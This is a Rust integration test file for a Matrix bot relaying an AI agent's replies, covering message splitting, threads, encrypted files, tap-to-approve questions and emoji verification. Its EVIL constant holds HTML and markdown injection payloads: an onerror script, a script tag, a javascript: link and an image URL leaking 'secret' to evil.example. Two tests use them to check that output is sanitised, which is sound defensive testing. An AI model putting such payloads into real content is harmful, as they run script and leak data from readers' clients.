//! What people get to see: answers, code, files, questions, and emoji to compare.

use std::time::Instant;

use cloister_testkit::synapse::{Fault, Post};
use cloister_testkit::{Matcher, ModelServer, ModelServerBuilder, Reply};
use futures_util::StreamExt;
use matrix_sdk::Room;
use matrix_sdk::encryption::identities::{Device, UserIdentity};
use matrix_sdk::encryption::verification::{SasState, SasVerification, VerificationRequest};
use matrix_sdk::encryption::verification::{Verification, VerificationRequestState};
use matrix_sdk::media::{MediaFormat, MediaRequestParameters};
use matrix_sdk::ruma::UserId;
use matrix_sdk::ruma::events::room::{EncryptedFile, MediaSource};
use serde_json::{Value, json};

use crate::person::Person;
use crate::world::{PATIENCE, World, eventually};

/// An executor does these, one after the other.
fn steps(steps: Vec<Reply>) -> ModelServerBuilder {
    ModelServer::builder().rule(move |received| {
        if !received.tool_names().contains(&"bash") {
            return None;
        }
        let taken = received.messages().iter().filter(|m| m["role"] == "assistant").count();
        Some(steps.get(taken).cloned().unwrap_or_else(|| Reply::text("It is done.")))
    })
}

fn says(word: &str, text: &str) -> ModelServerBuilder {
    ModelServer::builder()
        .when(Matcher::last_user_contains(word).and(Matcher::coordinator()), Reply::text(text))
}

/// X2, A8: an answer that is longer than a message becomes several, whole and in order, broken between
/// paragraphs; a block of code stays one.
#[tokio::test]
async fn a_long_answer_is_whole_and_its_code_kept() {
    let paragraph = |n: usize| format!("Paragraph {n}.{}", " Some words of it.".repeat(40));
    let code = "```rust\nfn main() {\n    println!(\"<b>&\");\n}\n```";
    let mut parts: Vec<String> = (0..40).map(paragraph).collect();
    parts.insert(20, code.to_owned());
    let text = parts.join("\n\n");
    let world = World::builder().model(says("tell me all", &text)).start().await;
    let (ann, c1) = world.met("ann").await;
    ann.say(&c1, "tell me all").await;
    ann.wait_for_words(&c1, "Paragraph 39.").await;
    ann.ask(&c1, "and after that?", "echo: and after that?").await;
    let told: Vec<Post> =
        ann.heard(&c1).into_iter().filter(|post| post.text.contains("Some words of it.")).collect();
    assert!(told.len() > 1, "{} messages", told.len());
    let whole: Vec<&str> = told.iter().map(|post| post.text.trim()).collect();
    assert_eq!(whole.join("\n\n"), text.trim(), "every word once, in order");
    let with_code = told.iter().find(|post| post.text.contains("```rust")).unwrap();
    let html = latest(&ann, &c1, with_code)["formatted_body"].as_str().unwrap().to_owned();
    let block = "<pre><code class=\"language-rust\">fn main() {\n    println!(&quot;&lt;b&gt;&amp;&quot;);\n}\n</code></pre>";
    assert!(html.contains(block), "{html}");
    assert_eq!(ann.unreadable(&c1), 0);
}

/// The content of a message as it is now: that of its last edit, if there is one.
fn latest(person: &Person, room: &Room, post: &Post) -> Value {
    let mut edits = person.events(room).into_iter().filter(|event| {
        event["content"]["m.relates_to"]["rel_type"] == "m.replace"
            && event["content"]["m.relates_to"]["event_id"] == post.event_id.as_str()
    });
    match edits.next_back() {
        Some(edit) => edit["content"]["m.new_content"].clone(),
        None => {
            let events = person.events(room);
            let first = events.iter().find(|event| event["event_id"] == post.event_id.as_str());
            first.unwrap()["content"].clone()
        }
    }
}

const EVIL: &str = "**Hi** <img src=https://evil.example/x onerror=alert(1)> <script>1</script> \
                    ![cat](https://evil.example/leak?q=secret) [bank](javascript:alert(1)) @room";

/// What became of it in C1, where it is seen as this text.
async fn evil_answer(world: &World, shown: &str) -> Value {
    let (ann, c1) = world.met("ann").await;
    let post = ann.ask(&c1, "be evil", "**Hi**").await;
    eventually("the whole of it", || async {
        latest(&ann, &c1, &post)["body"].as_str().filter(|body| *body == shown).map(|_| ())
    })
    .await;
    latest(&ann, &c1, &post)
}

/// X2: what an agent writes can neither run nor load anything in a client.
#[tokio::test]
async fn html_of_an_agent_is_text() {
    let world = World::builder().model(says("be evil", EVIL)).start().await;
    let content = evil_answer(&world, EVIL).await;
    assert_eq!(content["msgtype"], "m.text");
    assert_eq!(content["m.mentions"], json!({}), "nobody is rung");
    let html = content["formatted_body"].as_str().unwrap();
    assert!(html.contains("<strong>Hi</strong>") && html.contains("&lt;script&gt;"), "{html}");
    assert!(!html.contains("<img") && !html.contains("<script"), "{html}");
    assert!(!html.contains("javascript:"), "{html}");
    let link = "<a href=\"https://evil.example/leak?q=secret\">Image: cat</a> (evil.example)";
    assert!(html.contains(link), "{html}");
}

/// E69: where it is not encrypted, clients have the homeserver fetch the addresses that they find, which is not in code.
#[tokio::test]
async fn in_the_clear_no_address_is_fetched() {
    let world = World::builder().plain_rooms().model(says("be evil", EVIL)).start().await;
    let content = evil_answer(&world, &EVIL.replace("://", "[:]//")).await;
    let html = content["formatted_body"].as_str().unwrap();
    let link = "<code><a href=\"https://evil.example/leak?q=secret\">Image: cat</a></code> \
                <code>(evil.example)</code>";
    assert!(html.contains(link), "{html}");
    assert!(html.contains("<code>src=https://evil.example/x</code>"), "{html}");
}

/// X2: what is asked in a thread is answered in it.
#[tokio::test]
async fn an_answer_goes_to_the_thread_of_its_question() {
    let world = World::start().await;
    let (ann, c1) = world.met("ann").await;
    let root = ann.say(&c1, "the beginning").await;
    ann.wait_for_text(&c1, "echo: the beginning").await;
    ann.reply(&c1, &root, "in the thread", true).await;
    let answer = ann.wait_for_words(&c1, "echo: in the thread").await;
    let events = ann.events(&c1);
    let first = events.iter().find(|event| event["event_id"] == answer.event_id.as_str()).unwrap();
    let relation = &first["content"]["m.relates_to"];
    assert_eq!(relation["rel_type"], "m.thread", "{first}");
    assert_eq!(relation["event_id"], root.as_str());
    assert_eq!(relation["is_falling_back"], true);
    let outside = ann.ask(&c1, "outside again", "echo: outside again").await;
    let events = ann.events(&c1);
    let first = events.iter().find(|event| event["event_id"] == outside.event_id.as_str()).unwrap();
    assert_eq!(first["content"].get("m.relates_to"), None, "{first}");
}

/// X1, X3: the answer to a send is lost, encrypted; it is sent again under its id, and there is one message.
#[tokio::test]
async fn a_send_whose_answer_is_lost_is_one_message() {
    let config = "[matrix]\nretry_most_s = 1\nrequest_timeout_s = 5\n";
    let world = World::builder().behind_proxy().config(config).start().await;
    let (ann, c1) = world.met("ann").await;
    ann.ask(&c1, "before", "echo: before").await;
    let since = Instant::now();
    world.proxy().lay_times("/send/m.room.encrypted", Fault::Swallow, 2);
    ann.say(&c1, "once").await;
    ann.wait_for_text(&c1, "echo: once").await;
    ann.ask(&c1, "after", "echo: after").await;
    assert_eq!(world.proxy().pending(), 0, "the fault was met");
    let sent: Vec<String> = world
        .proxy()
        .passed()
        .into_iter()
        .filter(|passed| passed.at >= since && passed.path.contains("/send/m.room.encrypted"))
        .map(|passed| passed.path)
        .collect();
    assert_eq!(sent.first(), sent.get(1), "the same transaction: {sent:#?}");
    let heard = ann.heard(&c1);
    let once: Vec<&Post> = heard.iter().filter(|post| post.text == "echo: once").collect();
    assert_eq!(once.len(), 1, "{heard:#?}");
    let originals = ann.events(&c1).into_iter().filter(|event| {
        event["content"]["body"] == "echo: once" && event["content"].get("m.new_content").is_none()
    });
    assert_eq!(originals.count(), 1);
}

/// X10, X3, P8: a picture that the agent made arrives encrypted, to the byte, with a small one beside it; what
/// only calls itself a picture is a file.
#[tokio::test]
async fn files_of_the_agent_arrive_encrypted_and_pictures_with_thumbnails() {
    // A grey picture of 1200 by 900 that is worth a small one.
    let make = "python3 - <<'P'\nimport os,zlib,struct\nw,h=1200,900\n\
        raw=b''.join(b'\\0'+os.urandom(w) for y in range(h))\n\
        c=lambda t,d: struct.pack('>I',len(d))+t+d+struct.pack('>I',zlib.crc32(t+d))\n\
        open('pic.png','wb').write(b'\\x89PNG\\r\\n\\x1a\\n'+c(b'IHDR',struct.pack('>IIBBBBB',w,h,8,0,0,0,0))+c(b'IDAT',zlib.compress(raw))+c(b'IEND',b''))\n\
        open('fake.png','wb').write(b'no picture at all')\nP\nmd5sum < pic.png";
    let model = steps(vec![
        Reply::tool_call("bash", json!({ "command": make })),
        Reply::tool_call("send_file", json!({"path": "pic.png"})),
        Reply::tool_call("send_file", json!({"path": "fake.png"})),
    ]);
    let world = World::builder().model(model).start().await;
    let (ann, c1) = world.met("ann").await;
    ann.say(&c1, "run: draw").await;
    let post = ann.wait_for_text(&c1, "pic.png").await;
    assert_eq!(post.content["msgtype"], "m.image", "{}", post.content);
    let info = &post.content["info"];
    assert_eq!((&info["w"], &info["h"]), (&json!(1200), &json!(900)), "{info}");
    assert_eq!(info["mimetype"], "image/png");
    assert!(post.content.get("url").is_none(), "the room is encrypted, so is the file");
    let bytes = ann.fetch(&post).await;
    assert_eq!(info["size"], bytes.len());
    assert!(bytes.starts_with(b"\x89PNG"), "it is what was sent");
    // What the server keeps is not it.
    let file: EncryptedFile = serde_json::from_value(post.content["file"].clone()).unwrap();
    assert_ne!(fetch(&ann, MediaSource::Plain(file.url)).await, bytes);
    assert_eq!(
        (&info["thumbnail_info"]["w"], &info["thumbnail_info"]["h"]),
        (&json!(800), &json!(600))
    );
    let small: EncryptedFile = serde_json::from_value(info["thumbnail_file"].clone()).unwrap();
    let small = fetch(&ann, MediaSource::Encrypted(Box::new(small))).await;
    assert!(small.starts_with(&[0xff, 0xd8]), "a JPEG");
    assert!(small.len() < bytes.len());
    let fake = ann.wait_for_text(&c1, "fake.png").await;
    assert_eq!(fake.content["msgtype"], "m.file", "{}", fake.content);
    assert_eq!(ann.fetch(&fake).await, b"no picture at all");
}

async fn fetch(person: &Person, source: MediaSource) -> Vec<u8> {
    let request = MediaRequestParameters { source, format: MediaFormat::File };
    person.client.media().get_media_content(&request, false).await.unwrap()
}

/// A8, X2: a question shows exactly what is asked and offers its answers to be tapped; answered, it says by
/// whom.
#[tokio::test]
async fn a_question_is_answered_by_a_tap() {
    let world = World::start().await;
    let (ann, c1) = world.met("ann").await;
    ann.say(&c1, "run: mkdir -p old && rm -r old && echo '<b>' gone").await;
    let question = ann.wait_for_words(&c1, "!approve").await;
    let content = latest(&ann, &c1, &question);
    let html = content["formatted_body"].as_str().unwrap();
    assert!(html.contains("<pre><code>") && html.contains("&lt;b&gt;"), "{html}");
    let tapped = || {
        let events = ann.events(&c1);
        let reactions = events.iter().filter(|event| {
            event["type"] == "m.reaction"
                && event["content"]["m.relates_to"]["event_id"] == question.event_id.as_str()
        });
        reactions
            .filter_map(|e| e["content"]["m.relates_to"]["key"].as_str().map(str::to_owned))
            .collect::<Vec<_>>()
    };
    // What lasts longer than once can't be allowed by what is not encrypted.
    let taps = ["<li>👍", "<li>👎", "<li>🛑"];
    let offered = taps.iter().filter(|tap| html.contains(**tap)).count();
    assert!(!html.contains("🔁") && !html.contains("♾"), "{html}");
    let seen = eventually("the answers are there", || async {
        Some(tapped()).filter(|seen| seen.len() >= offered)
    })
    .await;
    assert!(seen.len() == offered && seen.iter().all(|key| html.contains(key)), "{seen:?}: {html}");
    assert!(seen.contains(&"👍".to_owned()) && seen.contains(&"👎".to_owned()), "{seen:?}");
    ann.react(&c1, &question.event_id, "👍").await;
    ann.wait_for_words(&c1, "gone").await;
    eventually("it says who answered", || async {
        let now = latest(&ann, &c1, &question);
        let body = now["body"].as_str().unwrap_or_default().to_owned();
        (body.contains("ann allowed it once") && !body.contains("!approve")).then_some(())
    })
    .await;
}

/// Asks the bot for verification and begins the exchange; the emoji of the person's side.
async fn compare(person: &Person, request: &VerificationRequest) -> (SasVerification, String) {
    let mut changes = std::pin::pin!(request.changes());
    let mut state = request.state();
    let mut asked = false;
    let sas = loop {
        match state {
            VerificationRequestState::Ready { .. } if !asked => {
                asked = true;
                if let Some(sas) = request.start_sas().await.unwrap() {
                    break sas;
                }
            }
            VerificationRequestState::Transitioned { verification: Verification::SasV1(sas) } => {
                break sas;
            }
            VerificationRequestState::Cancelled(info) => panic!("cancelled: {}", info.reason()),
            _ => {}
        }
        let next = tokio::time::timeout(PATIENCE, changes.next()).await;
        state = next.expect("the bot answers").expect("it goes on");
    };
    let mut changes = std::pin::pin!(sas.changes());
    let mut state = sas.state();
    loop {
        match state {
            SasState::Started { .. } if !sas.we_started() => sas.accept().await.unwrap(),
            SasState::KeysExchanged { emojis, .. } => {
                let emojis = emojis.expect("emoji");
                let each = emojis.emojis.iter().map(|e| format!("{} {}", e.symbol, e.description));
                return (sas.clone(), each.collect::<Vec<_>>().join(" · "));
            }
            SasState::Cancelled(info) => panic!("{}: {}", person.id(), info.reason()),
            _ => {}
        }
        let next = tokio::time::timeout(PATIENCE, changes.next()).await;
        state = next.expect("the bot goes on").expect("it goes on");
    }
}

/// The identity of an account, once the server has it.
async fn identity_of(person: &Person, account: &UserId) -> UserIdentity {
    eventually("the identity is known", || async {
        person.client.encryption().request_user_identity(account).await.unwrap()
    })
    .await
}

async fn device_of(person: &Person, account: &UserId) -> Device {
    identity_of(person, account).await;
    eventually("the device is known", || async {
        let devices = person.client.encryption().get_user_devices(account).await.unwrap();
        devices.devices().next()
    })
    .await
}

/// X3: a person's client verifies the bot's device by emoji: the bot shows the same seven in the room and to
/// the operator. A stranger is turned away.
#[tokio::test]
async fn a_person_verifies_the_bot_by_emoji_and_a_stranger_does_not() {
    let world = World::start().await;
    let (ann, c1) = world.met("ann").await;
    ann.ask(&c1, "hello", "echo: hello").await;
    let bot = UserId::parse(&world.bot.user_id).unwrap();
    let device = device_of(&ann, &bot).await;
    let request = device.request_verification().await.unwrap();
    let (sas, emoji) = compare(&ann, &request).await;
    let posted = ann.wait_for_words(&c1, "Compare these").await;
    assert!(posted.text.contains(&emoji), "{} against {emoji}", posted.text);
    let shown = world.stack.cli_ok(&["matrix", "status"]).await.unwrap();
    assert!(shown.contains(&emoji), "{shown}");
    sas.confirm().await.unwrap();
    eventually("it is done", || async { sas.is_done().then_some(()) }).await;
    let device =
        ann.client.encryption().get_device(&bot, device.device_id()).await.unwrap().unwrap();
    assert!(device.is_verified());
    ann.wait_for_words(&c1, "We are verified").await;
    let shown = world.stack.cli_ok(&["matrix", "status"]).await.unwrap();
    assert!(!shown.contains(&emoji), "it is over: {shown}");

    let eve = Person::register(&world.synapse, "eve").await;
    let room = eve.invite(&world.bot.user_id).await;
    eve.wait_for_words(&room, "pair").await;
    let request = device_of(&eve, &bot).await.request_verification().await.unwrap();
    eventually("a stranger is turned away", || async { request.is_cancelled().then_some(()) })
        .await;
    let request = identity_of(&eve, &bot).await.request_verification().await.unwrap();
    eventually("in a room too", || async { request.is_cancelled().then_some(()) }).await;
    assert!(!eve.heard(&room).iter().any(|post| post.text.contains("Compare these")));
}

/// X3: the same in a room, as most clients do it, between the identities of both: each has signed the other's
/// keys. Emoji that differ end it.
#[tokio::test]
async fn identities_are_verified_in_a_room_unless_the_emoji_differ() {
    let world = World::start().await;
    let (ann, c1) = world.met("ann").await;
    ann.ask(&c1, "hello", "echo: hello").await;
    ann.client.encryption().bootstrap_cross_signing(None).await.unwrap();
    let bot = UserId::parse(&world.bot.user_id).unwrap();
    let identity = identity_of(&ann, &bot).await;
    let request = identity.request_verification().await.unwrap();
    let place = ann.client.get_dm_room(&bot).unwrap();
    let (sas, _) = compare(&ann, &request).await;
    ann.wait_for_words(&place, "Compare these").await;
    sas.mismatch().await.unwrap();
    ann.wait_for_words(&place, "did not succeed").await;
    assert!(!identity_of(&ann, &bot).await.is_verified());

    let request = identity.request_verification().await.unwrap();
    let (sas, emoji) = compare(&ann, &request).await;
    ann.wait_for_words(&place, &emoji).await;
    sas.confirm().await.unwrap();
    eventually("it is done", || async { sas.is_done().then_some(()) }).await;
    ann.wait_for_words(&place, "We are verified").await;
    eventually("the bot is verified", || async {
        identity_of(&ann, &bot).await.is_verified().then_some(())
    })
    .await;
    eventually("so is the person", || async {
        let view = world.bot_view().await;
        let facts = view["facts"].as_array().cloned().unwrap_or_default();
        facts.contains(&json!(["verified people", "1"])).then_some(())
    })
    .await;
    // Nothing of it was taken for a message.
    assert_eq!(world.model.request_count(), 1);
}

/// P8: in a plain room a file is plain too, and what the server calls too large is said.
#[tokio::test]
async fn files_in_plain_rooms_are_plain_and_large_ones_are_named() {
    let model = steps(vec![
        Reply::tool_call(
            "bash",
            json!({"command": "echo hi > note.txt; head -c 3000000 /dev/zero > big.bin"}),
        ),
        Reply::tool_call("send_file", json!({"path": "note.txt"})),
        Reply::tool_call("send_file", json!({"path": "big.bin"})),
    ]);
    let world = World::builder()
        .plain_rooms()
        .config("[matrix]\nmax_file_mb = 2\n")
        .model(model)
        .start()
        .await;
    let (ann, c1) = world.met("ann").await;
    assert!(!c1.latest_encryption_state().await.unwrap().is_encrypted());
    ann.say(&c1, "run: write").await;
    let post = ann.wait_for_text(&c1, "note.txt").await;
    assert_eq!(post.content["msgtype"], "m.file");
    assert!(post.content["url"].as_str().unwrap().starts_with("mxc://"), "{}", post.content);
    assert_eq!(ann.fetch(&post).await, b"hi\n");
    let told = ann.wait_for_words(&c1, "big.bin").await;
    assert!(told.text.contains("larger than"), "{}", told.text);
}
